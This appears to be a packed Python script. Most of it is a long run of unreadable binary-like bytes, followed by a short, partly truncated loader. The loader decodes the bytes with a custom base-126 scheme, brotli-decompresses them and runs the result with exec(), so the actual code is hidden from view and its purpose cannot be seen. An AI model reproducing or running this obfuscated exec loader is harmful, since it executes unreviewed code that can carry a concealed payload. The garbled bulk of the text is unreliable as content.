CЙ[ok~ҾA7JXp"CaMb`?PhO|n$&`6|h?PUG bLRΨY6N.s	*"68lhFvcǔ+4P=JU~lTl0nu}/V6s\h94L{Rk߹#)26x|%[|]"DCNB~P5mN֏(A3Wb&/ѹ]+4Tkn>ZGv|U~[440+#Mb5IPw]1
N&dy
r
'i)̫%,Xz.y}N)&O+sf3S0ى]$ů3`_MYUr{5M??օd:֬	,paoXRݹSۃz:?8
ML0{V}Gۄ*k`Z_nsrQcց!v.a|˦%L-įb,Tn)KԬ0;,NY=@PؖOـY܊hן0>Tp
WT1)؁77ifǰOSNXj;	ewшpbP_4&P|#1ǘi}-n* q`QQ&^2w)]vF7R)PxϝUXͺ`Q&rKN!I8ף!ٰY*,.:(\&+5ҿqg΋7ҷqCY%٪ɝ4ߥ&Reǵ1	#VNF^X,3#R,[5=5>D8pZT0a	UfF:@SsU!;( l	qxC0~
+$PE;o!UV-c
2?l/tףkP}8уc޺' 'Qi5=gWVƀ=7U%
ZW
űup(u:ayȲg%?1jkYW+=eظDgS4ioi1Iyqn/kL8\l]6p<5goQntUŗhʦ^z|οiObhxLӫ)$S5|WcYT̼F3fqԎ24_YT#|&	2w`yUoj[,W>OUI^F$1YH,7QLBfմ6L',xxޟ?L	Jٕf']N\ÒǵIIPCǦ+/DӒS4l~(6LMƃ%Vw#rOR3܁̣")*v~,oܟkp|	bwxlK5,!PM$/sG3cM-vgo@A.86)a1fsA*(\y.S<­JyE|"\+L#G%Ňs=AǺt5C֊t{#˙]fRBy\$Xw%) 	VFڿYEnMh*[ߦ!*&ӧLd}K`yǋ6]yΕNĉ|%ڜ­:Ѩ~HݴxѥvDIBJd0>@ܦ([B<3n4˺Q1"}_֥փ@)YZG.JߝƨOةS@٦B1uӍfp"%#X?Xz-AB-A
8f8Cf-{U4,&x,!LbǸ{;!xk67
`yYQoBa$"XgBs֩_#9-u
ƚ+1OʙI/_X0tH
~M>t!ѶW d5Vzõ&	1;tƾ

dY4K6\-axɀZƥf%T0]Ce.}>ŋCދSg0=-xpOQ'52yUC
Y/J,iM|T$u<Ae9J4ޘT&[TXJTǬی`
GӰYOM{2xUG2x}%hց_CTxAb:IGM)Pn!%oŷΖc^{M9o{DYۺ#׭?${وlN~^K̍}gkuVUԏs*bwӚcH9^WjqΣdV?:PU<3vZǚ]=_El=!2yxeӎd/=^ޖ!Fd*ң0oD="mj:)4f
B\Yv^0 tjgTqА` t[͢?kzdQX\͙[L^\Ͷ/|*Yt*ǇuݕAA# z<
.?DxϭןM'A9+d-{v9 4q+HNEН|Ϧ9σE\"0M1j o*\Q	P}֬ĬѠyѯTg	Lt56
X85c9MHD>r1JrБN/'ԏM]$!)+BD)>߷0pJ:nR)G9JfgA##VZmmт:̜o!rRZet>Rq2oߚсN
AT	|A/c3@z4eZD
3boum &U4(AYiJ2J+bM.+Vٞ&xpHHM>$fҩ!UE@,nK^ΫO\v@Vg^\Y9-IC00)9	'()6	9lKBrǁT>ϵ_l¨n9wZӒ"dlx+.lXF}8ǮtzB%;JquđVHʽˎ}Cq&b9%jr~ȸ9ú͕:-\9"0xT'8Ύ_ˊ)~S3vmNd@(VnTdy#5ۙլOM}e"&L],ԡGS+e]#$$RDwy'TB,GR|4E&Nc׌N@r ɘݚWCA	f ,MLǗ.C
QtZby93J0FG
O$631)]JŸbAǠd[pw3+"d#
juo6|F1oe?}CZ0613X}WqYm)qe֖)0cyH]ňH{R{p"cޥJUsybY3Fjv2;g>|	׿@`PaҢ
-c $]K¿B9 t.<
>+ ~ʸͼd<8\{]YE!a,srA	c\ps:!<@L!ʡ.t~Vr,	ug2[J^	۷;lG?M@/#ۢLCQg5WA>CUΊ<S&ezGAJ7-(4'ôȋzVKS[]f/EvPb|Z?a}t\~>lJX9qQ)U?HE(W'^zeO2úKe!cs7kc	#"5(8g.oW(?@F?Gn3k-#מ.?AJԕ2ګޏIX:la5bv߇=	\XgMh`7+r~-Z-Ž/@RS''!H.9:R \lSGǂiHz;+:ú+ x[M+ڞ19`7y&ˇdt#7̏-?,ܴZu?ߟM/ȣ#DG\01l|pMmƣr+/W?٠dg`I"C~x<H\UfƖ/ijq2JGzS5uAm{T5HsB$]q_ܗ9{Z] ?5̏=%.tA&oOq;vwt;ߢ߁0qUe:\@7?E4x!;lxy}#vyUBء_)^MH'$@Ϻ	 Wy|Ep0r]Db[`0_wjF-)S. whgN%хIM>ʛRlQ
}м{;pA9TDodp؀3d,aF^/ҁ8^D.հĘF/'	ƨ-:vyf*ˢ9߉6	LC|ÁcURF'b_B(ݮa*vĩ{lam6БsR	U<a#LAyS8y=ܹr:#QՐ
.qSJ:+;O8.6ZJ+ahP)kG6Zf<K%)"ջr EzW;Sֱu@Ҍp-C܈O+`8Hup?pP9^TR$5R!/L6Ѡ٩	#ÉUlWukC/8ů:&FѐuJd3Z6saU/7ڰL!D'mS2xz=.<(S$Dލ`;$9 *y*gFeSKlmq 03Y4-,eߣZcCU6'dӑ}hfδ'l?[~tt3
۟˅ǔIEe)%Z{fOhNƌQ4Zqͱi;$91VF1LQ~mwp7b8;Nk,Y|2]
reŇr{")1Uo#3n2e%o̂Y]<![MP%gN	*dxQwScF|}]˓wYX.}rA%<1׀<Jݭ^+b'wĚNH.Ö̈5iфE\}дK?G8sW':]>\8ISH_yrYvtE1F*>4/Zy3jr0'ų¡sX~̲>{eJ]j~<^aJȘ;wm&jζ-tYe]1{B%FؖjsS@2ØHuPCMjݓF=[x~3SU*9iFNҢEʶX ͉BXx2޽lO~Hy6WeǕ;һ!Kw3|;qjK[|P>֍Ҫ'Ku%|]no5rj%4D#Ρhӷ";)zfxSQW8tSi;o
Yܫш
2xwz<?luЂQ,hѹ*Ō![M˱
#(=shS։gnZzAjj[hjo6g?1ƴkϚhê2c$:+iۣ2Ҷtۖq}J7ճAx (~bV%(@yWUtX@jHj'۠OkBSCb|~;cHTQnFblOeEmgzjԲzѨklѸ,9Ҝ{z^ՆQ-ެQi|73.ڇiíh{}Ty6D̜fgebNeWf3FeTƛȖ,wrF$Z\\zJOyÉ[<D?ܧL#`&/O,k;ܼGoݼ@fL-&M.xyzhdZ[:*.|TaҰW,n a&?;ș8HR
Tדr=Ә_UWFĥå9n.TOg9ۿ݈Mu۠Йg̕TPGv0mÆTHҡEt7E_/w3ƨYÊ#&Aɯ|rT(JyV%ZaYq̉.+6Ft¦J=f/-,kIn*w1Ηʜʺ˻N?G?ǝV+ׄȳdǆ`´%i@#J>n<ܗKuKv(s]|r .ڃHW?H9Ӥ*}m[t[΂mn݋Ģn>2(|@:4}NukXY1\~[՜&>'>Z8"(,rë9_ХGk\cB!Ԕ0ՄEGT{"18T|]lqrq;:	Է>eMqyA9|.ʮ7*	մ|mSnNcern@f1d0#:d(߆kxuVZY]@Jym"
ڝY+Ɲ~19и܃~6b&66&>y _Ou	sY7mHgTنj~ =éٻzϻX͑qz̯xK<
(oҵq$lTلo@;0yp]EMKz<`E
Kǃ;
YP
K[߆!(hXԍj<Iv\jݖkEw'"nCvؚ1Hf'<.͗5u34Fiρ
͋6٬ψ@ lө\y0!׳xpVj@ĬMjQkf>
;|Yg\ҘKY@h[{9ݨK]lws̳ ѥl\&Y'CKpu[ڦ%YDv\Α6ӀзZsb;HH	o}rrǗh>YB́Tthvڽ:Rk\ou8)"E%L7wEl|K֭~^<EZ5N΃ar%f}}BUjctH3<Yڦў]ec 9O^#;=ƫm4]Ύɥ-]gduܡxǾX{#B6@7P&wcq23јN7tGE8 [N!~~5VYC/n<slFA7gk/AWlg=ZGJ\DN:vL!{GhXA<in#\Kё8`h[$AȄ<wpW-ݜrBr3|ѹc'#xYQ'XMs5U(d8BgaA,J]+4C\Vkkʢ>-i4Gŧt	m-sι#Mo(EͣuӘ-Z	¿׻C[9qNuϗ(Ѽ5v
E$FЈkiAKrԛ[Y`ɻ<,_Shǫ:/=ٚoc[rbٯ̋E<wLo0~<,P\~Ǥk&O̎=!^akF:.BeݭH&)TՆ2)$&;HvpNA+դP	֘k(Ƃ1Ťn(Ps`mM*$Ϙz~nR+cga"zOo()mW%$4novkk$4d,uu\iP4[/:Ş:}Ɋp0zƱnP˿ɼ%K5pCkjF'l^&OAQ	%dVޡ~`U4*L7Sj]dːBua	x˚rwLpɍB~ CqYdՉjCh_֍8e0:\.^=UOƮ\15_Paߺ,$}Cl{}kGʨ{F
(}MBhPG6mQZғ!ԑ{Y۪-3yīn_Sdrr&@,RqyvVBkzBj^QӇ([W?ƝdхEGƬm+3}p'JHr8Kfқٮr:UX3{PK?33Gm]ׅt3ݤc2)dؓff)۲U 	LyAӓ+ܵ	jtcæ	4(=FJIZ~ؖ$.g҄Zv{,
GG&S/XՒ[ݱ_ɩҥDE3ݣǛzؾ2IϤtťwcψFm [B\֐}R^%#&!ǖ(%#wn+(p\}6Fi?GF0AXf<x<xV,͹GqRPPyգll+R *-Zv?X;sZ%t֨M\6br-ɉߢmpOvX>qnSt$9ҟsĽtáv<A:<p}5f,=J}A14ҎŅ!nԁXS1b2׳ۑjlk[|.
v`%̈́mz;50ِwCmUVݔ3y=_$z	td6>/\sV
[o(R>\9f}"Ktm>}2h$%LKެ#%E0ێu"{Fő-L~oA̩ȷN+V!<:$AԃUS*-^VghqC
iWLMFh&s5-'~%wrE"@m7Wwn%%UfcףаӅbJ}~8[ԕ|E>gpYQ'JyWgŚgD*)f]أҨTdQ$M]U{Sܦ^geQz=uc(O?a^9<sq1p?^/IHȬ
$̭=7)1}k"j)Pմhd.b`kֽpH7Y5Hiyg/kU(~QΌt_+ipc2pcݵ3*	5LG͑7$g-k;wۤc0Fdw<'P]ؗ5f.QK"C"ͥxd=.h$m$ĉ#h\њO]ҫHL/'Sbё׬y`7̙
|J,EÍ*q5qlzΦAխ2MqACntI&QԎU;|ة}{5O&{;b3a	R9is2]Tm	SN5;}|Ʃ]Ш]Aȶ\e.ԧJbD&Swl i$Ţ~ydVqW$&Q\]Q	BLb.,^\CW>:֌1zs)L.=<<UM͒2R0˅[wY-&I؝H]âSK#nf"4H͛*ݺK_pv=2Gc^_H]KPr]͊Gg:O(\ܬ5ϒޔVhJJNgm=l|C#ez_j܎.rqP0==f3:zr'-ϱOZ_h+3sv*Ubek6Hֳĕ[|):ǲ"۝
$EvrA!/WMGoSÚ;̻Lj(<5u-
}^ҥW 0qԄf$W\*Ɩ ;x;۫	@#3p&wKWz<0USnOF̀-ԧݬi1Rft}mFJ;)[ѩYSyՠhkm?hy'r]K3ƨdԃ4@0jXCz.٦fq0PB.vF[į?+qr$ǩmD
p,?]ТZ}&Oۨ{fO]z TuAv|Jͅ"sa$K^".%ldIu
{^#ܖLə3|MXu]G*H#d([.nmCRI3I
'^.º<$[NB#+]@_b@JCzloݛ*VOٲ0"וF<DÏE1fBN9RʄWn۸a=j}r$Aч<-Ok6DFoq״8"n}K)0ŕǎDD\dk_&7=sm
_EgFY\\tVRaut9z20!Ǒpc_ƫ^׹f&`կAه,MRMUʨJh/:?T9jR\GUoANO.LӓIYògNρ%yZJ?UtS3"ޟ {dj-z7UYUl>f֙@WFe)`ӤM9(nN"ŻVG(t8q;F2TwTA"É3_$ܛ&myfp@M3b]c!éV+I@O3TqyTECu:=/!d0`xFO\)Qcc@AP|g9tn˳µFxU=\9%1S,<;xҿO_zכjGt\q֤ı9>1l0ì>Ҝ"{{zrl	%pĈ4~>yMUͥK^Zsݣ1ySQ
_Ͳ71Va|07'NKZ},MIdհ }Wp<CX!d`̨uH0tP&j'*O3[NrLO<EUgf4jM0$
|I	KuI\kߨxgcqbV>6BDƴib5m̳m0"?UaNH 4:BJfZWPح-hɐ;`nAnG8g8D;җkfokִ\הAK5Rp#{m@!1>2L~nZۼҶ6:Yp5"FGy%}AmjS$HOB=}iЃªxeV\tH!Z3t7S"'iS}>Iy>	IyU5Dp~/:G,"?kD(Ѹo;O-Ncv/q`8Z<6Ooyo\f^ۊ*wqoU9qc˷m|w''vB(C[+ݮ֌J^Ι_،à֨cMS_0nc-s^g,H-9c2ۦi|̚PLāO:/D96-NH"oQ(END3?tx*ѻ; Nm-ӺZ_sNа9M:,us-P8FĲFA1|E{l#Ѹ01UӘHdFсY[aX<3I(]VEV!%5D_}Ay-WyjT7[_P&J&O:mh)r$+*8FcS72Oǡ#ە5!]#9PƉ֨o^QIɖNP}\?pP
u6-Hco{S7bxbY!̙I
>UkĦbRkĽFJ>#]В̚1e>֥ҳ)5'gW.Pxq^5(f?QxP\r="%ơ1}*ê11_z	Pи9Ǔ>߲`aNy.:"<4Uqub:B1ZwjjjaNdwg`1HDC#xKN$l<\c=k!d|NlZ׸U<÷ʸEWWȜ8M;nxnپU}ʹ]3(I,đ6ew&Фo+W(V*[9U?J5NΣWd=^Fc)MboN"Qc8y
%8	!G[96mEDN79E/gIL=(JƜ;KpH/y̲UX΄/,ϴUY{֏ujiUH_-j F1'bg3}.7t&_T/#ը=7s-[	%OR?kĈ=%9fXXWGu@uGIֆ@yiU,o1קvKOm~ݓ>d1=oc"U$B=JTHX'Ƹm
FL%|\l6.~L{bIܿ$كIT.ʽ>"/-
kL}Jx1x?c͗
#~Ua#j[$bψؽo>22;̌E+׈ncZs2_8fրCyƨq QpxVw6tӱcQfCxܡOԱLbu$|S9l)`NЃބӭBPJ7;D}|Z*׳ӏV{ӓ%l˕CMFǪD)Х5Vy׵c:yBJ^|Xβ:bu^..am>^.zHIt\&SX9pxdq}ďG+SF_ڭŹJܼtQi0MPCƟ^T7bԵbL|t֨k:?9β*~9#?ޣ-9w)64jRւd"ǲ@ԨId1ۧQZL}ZF
>TOCԋyV$\ciq+nqߣa/tӁ`վ9tͺ2+Ati9cnԙ=c$"
Bd@˲dg#/e0N	]O
vI-ՎĔ&?;o\@MWq[CWcz6~_۫`z8 (Z1"{}'"p .XX@=#X^*IG#WςdvhceP$Hc7 8PUu(BQ,"51ek
4?6q/ffM[Az.Ϟ{`_0(cM®6 sbu16{ќ@qE84U\~/ʃ,܁S$7M6`fg8ܲssByayݏŊ32A]ovl|;F#4c؉a X]ժs<!Wxٞ9[U,Rh}xNEQz('1
M	_ pXQTFm[g;ńf|y	j1UhYb;U &l %Ώr`m{6_B'a!n{Yƞ}(o{+|2Fua}Q%c2vgG:fEE3$(68_	8*7"zq	bsC6Rm!hk+SB}*0 HRL|nD!@7'02Pp9>p6U/M~q|էR&,~K:2Fٗb6C*%#ɵZ'1uˢ\`gU;Q0͌w,Ө̉IB"!;{0>t
djO}TɈ%j+~a@)cb>=	:s#:Ԗ\%$-]u(57	gN{jDm!<v.9ɪrӍQ9!%r.3eft,rr´(WX	oI/3M ~NUzoM9c<@	Ќ'hss|Οr(thnA[3+[UmCAC@W}o!8kjL|6߃)m-bݐؕl©W#-ݰݱ8×dѯU~;ńQ.طmTGo܉kÍ[TVjhZ zاNDui!ޭ x.{pg@z5d @?&׈Ql.r^Wʽ,LÀGV5%|LsáDԑ/QY.rtǥCq9u`6sXv0
;(E?
2?DSϯ*T}IyU4uo=YQ`s|ϝҼf!L7zJ6YnIod^f]\Zui,ê-pSx@H!8L!@yt3;|*	K8]Mt_Kd+,"}ߟahݭHIٍfNWkҵBck:\7O]&ܷEOsC1&T
{S\	ΚX_Fhs")ٜ*j`6l54ϹϻŤtqޙzE.wV.[-kx}eҾd
doՂXzm<"#bJ'bSpSrV~Hk*T*lܰɿ!kt$$RԈc+7%ևj#кO{{nGfWS֮ЌbG$FkR>SN^{-ęAM?@y|L$*A#]ܣ)i(Z,
 j'r'{&a~V{w{on$Ku}j$mѕ^Եҟ%<uz
*mwLRZ3?GTa*g*ȸq4[F?	ʿ˸ؔj:{wlʔsM@M{a=l_"ѾTAեޤ*%(0FS@h0ߵlOf<X#>DLP8KUW*yrAbie|8D,ݎAjdRFdG@7@Kߴ*>D!8TraYc2?oWܞacju	Kqɭf6(d8ȟW6%59#֯	OTȁrZe(8صj6Wt^8wݓBxvӺ(,Se;,Yd8M^?l-skSITc|CtG8or},2$fvLS˟rL0PlU	rnmTYע*]S{%80ĀXY$8Ag`Vk!"h<XvǱj:.lޓכԡI
iֽEm]R9Г<a]y63	 Zy*k"3-XEHˏԼtD)"(41RB`Z={>*NP;	gsH\ £p=PXZw@]Q0%e@Lki׆>Ñ.Q˯_H5yRY
ۍFuF׻?NooEujR`:zsKM
kVv>I>SHϔ}ݦQAN$X;hGHS;5ԟ7חKV?st4nm&LG(ll;ԛΟe0b49QNc=PzP.¶	U.>|*DˈzʇʷRʵ1ֿg';>ϲEE7%0N|
ąNl @G(d/pl\:JTat@h=[UgJף &ĥEe37̭A44}E=O:+?ߣ}_'YU` ȉ~x)+W}a\q6	@йqW?eO4TnȦ:IǘD|mhPMƐ}zRw|VcH}%m%	NEBM֙levD*l:0Em*Lީu?ڬy݆V#:\+Awȫ@!/)nӑPlpف mtʗc"ePZ_y'#aCx)_-|/I9Vơcis
Xן	ߧ|}Kׂ+Њ/ ՆZ N=1"ͩZ
)/_m;} ldunk4X0No"٬?wDۡNҸ	EѨ@h~ğJ[,P՛͊hz_ߚn#E[М-˷۫ݫPia	P?&8=5F)wVϯp*Ivt!	~p$
c˛Eʩc$E~F!R3ǒRB	b#29aCбѳyL;!څRùѢY54؏su:g C4&_f4i+җԽ OC;('eD}Ȩp{Iӑ}x_9#lT_s:Ŵ[ϑ#,6V9ʚjlgL&ɺd v8=!KXp-q0]̂(aD|[X3O!0ŋa6XCN1flf,%0»khv_D{?bH]?KOۛ?*YE<J\JiYDlFJ1&-m(Ƃ`RN&ܢ7ͻZXj
"{Iz&	۴ӇbGd"-qrڇp4۳;Lqxkp[[Ȁ,lYd3߂Wl߿'Ŝ{vYW%3
",yNCed ptpH36dky/J'[F6Ւ*u_0MKBlieu{/lTse_3JŪ0O!''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25302)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
